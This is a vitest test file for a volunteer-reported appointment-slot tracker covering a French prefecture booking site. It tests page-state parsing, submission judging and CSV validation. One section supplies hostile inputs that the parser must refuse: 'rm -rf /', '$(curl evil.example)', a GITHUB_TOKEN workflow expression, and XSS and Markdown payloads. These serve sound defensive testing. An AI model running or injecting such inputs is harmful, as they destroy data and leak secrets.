/** Volunteer observations: reading the slot-page state, the block, and every refusal. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { captureObservation } from '../../src/lib/observation-capture.ts';
import {
  BLOCK_BEGIN,
  BLOCK_END,
  formatBlock,
  readBlocks,
  type ObservationBlock,
} from '../../src/lib/observation-block.ts';
import { parseObservationFile, type ObservationRow } from '../../src/lib/observation.ts';
import { judgeSubmission, MAX_PER_ACCOUNT_PER_HOUR } from '../../src/lib/observation-submission.ts';
import { publicationTimestamp, readSlotState } from '../../src/lib/rdv-slot-state.ts';
import type { Procedure } from '../../src/lib/registry.ts';

const fixture = (name: string) => readFileSync(path.join(import.meta.dirname, '..', 'robot', 'fixtures', name), 'utf8');
/** The text of the page's `script#vui-init-data`, as the bookmarklet reads it. */
const initData = (html: string) => /<script id="vui-init-data"[^>]*>([\s\S]*?)<\/script>/.exec(html)?.[1] ?? null;
const state = (vueData: unknown) => JSON.stringify({ vueData });
const SLOT_PATH = '/rdvpref/reservation/demarche/3771/creneau/';

describe('the slot-page state', () => {
  test.each([
    [
      'slots shown this week',
      'rdvpref_creneau_slots.html',
      {
        kind: 'slots',
        first: { date: '2026-05-19', time: '09:30' },
        second: { date: '2026-05-19', time: '09:45' },
        slotsShown: 3,
      },
    ],
    ['no slot at all', 'rdvpref_creneau_none.html', { kind: 'none' }],
    [
      'none this week, « prochaine disponibilité » later',
      'rdvpref_creneau_none_this_week.html',
      { kind: 'slots', first: { date: '2026-06-02', time: '' }, second: null, slotsShown: 0 },
    ],
  ])('%s', (_, name, expected) => {
    expect(readSlotState(initData(fixture(name)))).toMatchObject(expected);
  });

  test.each([
    [
      'present',
      'rdvpref_creneau_slots.html',
      { last_publication: '2026-05-04T11:58:00+02:00', next_publication: '2026-05-11T11:58:00+02:00' },
    ],
    ['absent', 'rdvpref_creneau_none_this_week.html', { last_publication: '', next_publication: '' }],
  ])('publication dates %s', (_, name, expected) => {
    const capture = captureObservation(SLOT_PATH, initData(fixture(name)), new Date('2026-05-18T08:00:00Z'));
    expect(capture).toMatchObject({
      ok: true,
      block: { demarche: '3771', observed_at: '2026-05-18T10:00:00+02:00', ...expected },
    });
  });

  test.each([
    ['a winter time', '15/01/2027 09:05', '2027-01-15T09:05:00+01:00'],
    ['not a day', '31/02/2026 11:58', ''],
    ['not a time', '04/05/2026 25:00', ''],
  ])('publication instants: %s', (_, text, expected) => {
    expect(publicationTimestamp(text)).toBe(expected);
  });

  test.each([
    [
      'another page of the site',
      '/rdvpref/reservation/demarche/3771/cgu/',
      initData(fixture('rdvpref_creneau_slots.html')),
    ],
    ['another site', '/booking/create/885', initData(fixture('rdvpref_creneau_slots.html'))],
    ['a slot address without state', SLOT_PATH, null],
    ['a state that is not a slot state', SLOT_PATH, state({ CTX: 'x' })],
  ])('no observation from %s', (_, pathname, json) => {
    expect(captureObservation(pathname, json, new Date()).ok).toBe(false);
  });
});

const NOW = new Date('2026-05-18T10:00:00Z'); // 12:00 in Paris
const block = (fields: Partial<ObservationBlock> = {}): ObservationBlock => ({
  version: '1',
  demarche: '3771',
  observed_at: '2026-05-18T11:30:00+02:00',
  outcome: 'slots',
  first_date: '2026-05-19',
  second_date: '2026-05-21',
  last_publication: '2026-05-11T11:58:00+02:00',
  next_publication: '2026-05-25T11:58:00+02:00',
  ...fields,
});
const procedures = [
  {
    department: '54',
    slug: 'demarche-3771',
    system: 'rdv-prefecture',
    url: 'https://www.rdv-prefecture.interieur.gouv.fr/rdvpref/reservation/demarche/3771/',
    until: '',
  },
  {
    department: '75',
    slug: 'charcot',
    system: 'legacy-booking',
    url: 'https://pprdv.interieur.gouv.fr/booking/create/4564',
    until: '',
  },
] as unknown as Procedure[];
const stored: ObservationRow = {
  observed_at: '2026-05-18T11:30:42+02:00',
  outcome: 'slots',
  first_date: '2026-05-19',
  second_date: '2026-05-21',
  last_publication: '2026-05-11T11:58:00+02:00',
  next_publication: '2026-05-25T11:58:00+02:00',
  source: 'volunteer',
  reference: 'issue:7',
};
const judge = (candidate: ObservationBlock, more: { account?: number; stored?: ObservationRow[] } = {}) =>
  judgeSubmission(candidate, {
    procedures,
    now: NOW,
    reference: 'issue:12',
    stored: () => more.stored ?? [],
    accountReportsInLastHour: more.account ?? 0,
  });

describe('judging an observation', () => {
  test('a well-formed recent observation is accepted as one volunteer row', () => {
    expect(judge(block())).toMatchObject({
      ok: true,
      procedure: { slug: 'demarche-3771' },
      row: { source: 'volunteer', reference: 'issue:12', first_date: '2026-05-19' },
    });
  });

  test.each([
    ['unknown_demarche', block({ demarche: '9999' }), {}],
    ['unknown_demarche', block({ demarche: '4564' }), {}], // a legacy form id is not a démarche
    ['future', block({ observed_at: '2026-05-18T12:10:00+02:00' }), {}],
    ['too_old', block({ observed_at: '2026-05-16T11:59:00+02:00' }), {}],
    ['bad_date', block({ first_date: '2026-02-30' }), {}],
    ['date_before_observation', block({ first_date: '2026-05-17' }), {}],
    ['date_too_far', block({ second_date: '2027-05-19' }), {}],
    ['second_before_first', block({ first_date: '2026-05-21', second_date: '2026-05-19' }), {}],
    ['dates_with_none', block({ outcome: 'none' }), {}],
    ['slots_without_date', block({ first_date: '', second_date: '' }), {}],
    ['publication_out_of_range', block({ next_publication: '2026-05-01T11:58:00+02:00' }), {}],
    ['publication_out_of_range', block({ last_publication: '2026-05-20T11:58:00+02:00' }), {}],
    ['duplicate', block({ observed_at: '2026-05-18T11:30:05+02:00' }), { stored: [stored] }],
    ['rate_limited', block(), { account: MAX_PER_ACCOUNT_PER_HOUR }],
  ])('refused: %s', (code, candidate, more) => {
    const judged = judge(candidate, more);
    expect(judged.ok).toBe(false);
    if (!judged.ok) {
      expect(judged.refusal.code).toBe(code);
      expect(judged.refusal.message.length).toBeGreaterThan(10);
    }
  });

  test.each([
    ['a skew of 4 minutes', block({ observed_at: '2026-05-18T12:04:00+02:00' }), {}],
    ['47 hours old', block({ observed_at: '2026-05-16T13:00:00+02:00', first_date: '2026-05-19' }), {}],
    [
      'the same minute with other content',
      block({ observed_at: '2026-05-18T11:30:05+02:00', second_date: '' }),
      { stored: [stored] },
    ],
    ['the last report the account may make within the hour', block(), { account: MAX_PER_ACCOUNT_PER_HOUR - 1 }],
  ])('accepted: %s', (_, candidate, more) => {
    expect(judge(candidate, more).ok).toBe(true);
  });
});

const wrap = (lines: string[]) => [BLOCK_BEGIN, ...lines, BLOCK_END].join('\n');
const good = formatBlock(block());

describe('reading blocks from untrusted text', () => {
  test('the formatted block reads back, whatever surrounds it, once per block', () => {
    const text = `### Observation\n\n\`\`\`text\n${good}\n\`\`\`\n\nMerci !\n${good.replace(/\n/g, '\r\n')}`;
    expect(readBlocks(text)).toEqual([
      { ok: true, block: block() },
      { ok: true, block: block() },
    ]);
  });

  test.each([
    ['shell in a value', good.replace('demarche: 3771', 'demarche: 3771; rm -rf / #')],
    ['command substitution', good.replace('outcome: slots', 'outcome: $(curl evil.example)')],
    ['a workflow expression', good.replace('first_date: 2026-05-19', 'first_date: ${{ secrets.GITHUB_TOKEN }}')],
    ['HTML', good.replace('second_date: 2026-05-21', 'second_date: <img src=x onerror=alert(1)>')],
    [
      'Markdown',
      good.replace('last_publication: 2026-05-11T11:58:00+02:00', 'last_publication: [clic](https://evil.example)'),
    ],
    ['an unknown field', good.replace(BLOCK_END, `note: <script>alert(1)</script>\n${BLOCK_END}`)],
    ['a repeated field', good.replace(BLOCK_END, `outcome: none\n${BLOCK_END}`)],
    ['a missing field', good.replace(/^next_publication:.*$/m, '')],
    ['a line that is not key: value', good.replace(BLOCK_END, `\`\`\`\n${BLOCK_END}`)],
    ['another version', good.replace('version: 1', 'version: 2')],
    ['no end marker', good.replace(BLOCK_END, '')],
  ])('%s is refused, never stored', (_, text) => {
    const [reading] = readBlocks(text);
    expect(reading?.ok).toBe(false);
  });

  test('text outside the markers is ignored, a body without a block gives none', () => {
    expect(readBlocks('$(whoami) ${{ github.token }} <b>x</b>')).toEqual([]);
    expect(readBlocks(wrap(['version: 1']))[0]).toMatchObject({
      ok: false,
      reason: expect.stringContaining('demarche'),
    });
  });
});

describe('observation month files', () => {
  const HEADER = 'observed_at,outcome,first_date,second_date,last_publication,next_publication,source,reference\n';
  const ROW =
    '2026-05-18T11:30:42+02:00,slots,2026-05-19,2026-05-21,2026-05-11T11:58:00+02:00,2026-05-25T11:58:00+02:00,volunteer,issue:7\n';
  test('a valid file reads', () => {
    expect(parseObservationFile(HEADER + ROW, 'f.csv', '2026-05').observations).toMatchObject([
      { reference: 'issue:7', day: '2026-05-18' },
    ]);
  });
  test.each([
    ['another month', HEADER + ROW, '2026-06', 'does not belong'],
    [
      'a robot source',
      HEADER + ROW.replace('volunteer', 'robot'),
      '2026-05',
      'f.csv:2: source "robot": must be volunteer',
    ],
    [
      'a failure outcome',
      HEADER + ROW.replace('slots', 'captcha'),
      '2026-05',
      'f.csv:2: outcome "captcha": must be slots or none',
    ],
    ['a duplicate', HEADER + ROW + ROW.replace(':42+', ':59+'), '2026-05', 'duplicate'],
    ['a reference with HTML', HEADER + ROW.replace('issue:7', '<b>x</b>'), '2026-05', 'bad_reference'],
    ['another column order', HEADER.replace('outcome,first_date', 'first_date,outcome') + ROW, '2026-05', 'bad header'],
  ])('%s is refused', (_, text, month, message) => {
    expect(() => parseObservationFile(text, 'f.csv', month)).toThrow(message);
  });
});
